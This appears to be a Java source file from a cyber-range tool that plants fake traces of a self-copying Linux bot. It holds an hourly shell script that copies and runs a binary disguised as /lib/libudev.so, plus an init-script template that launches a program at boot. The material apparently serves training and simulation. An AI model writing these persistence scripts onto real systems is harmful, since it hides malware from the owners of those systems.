package davy.range.plant;

/// What a bot that copies itself leaves beside its copies.
final class SelfReplicator {
    static final String HOURLY =
            """
            #!/bin/sh
            PATH=/bin:/sbin:/usr/bin:/usr/sbin:/usr/local/bin:/usr/local/sbin:/usr/X11R6/bin
            for i in `cat /proc/net/dev|grep :|awk -F: {'print $1'}`; do ifconfig $i up& done
            cp /lib/libudev.so /lib/libudev.so.6
            /lib/libudev.so.6
            """;

    private SelfReplicator() {}

    /// Its init script.
    static String init(String name, String program) {
        return """
        #!/bin/sh
        # chkconfig: 12345 90 90
        # description: %1$s
        ### BEGIN INIT INFO
        # Provides:\t\t%1$s
        ### END INIT INFO
        case $1 in
        start)
        \t%2$s
        \t;;
        stop)
        \t;;
        *)
        \t%2$s
        \t;;
        esac
        """
                .formatted(name, program);
    }
}
